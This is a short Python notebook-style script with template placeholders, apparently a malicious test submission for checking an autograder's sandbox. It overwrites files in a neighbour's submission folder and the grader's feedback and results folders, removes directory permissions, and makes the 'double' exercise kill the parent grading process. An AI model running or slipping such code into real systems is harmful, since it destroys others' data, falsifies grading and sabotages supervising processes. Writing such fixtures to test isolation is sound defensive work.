# %%
import os
import shutil
import signal
from pathlib import Path

for place in ("@SUBMISSIONS@/@NEIGHBOUR@", "@OUTPUT@/feedback", "@OUTPUT@/results"):
    try:
        for entry in Path(place).rglob("*"):
            if entry.is_file():
                entry.write_text("@MARK@")
    except OSError as error:
        print(error)
os.chmod(".", 0)

# %% exercise="double"
def double(x):
    os.kill(os.getppid(), signal.SIGTERM)
    return x
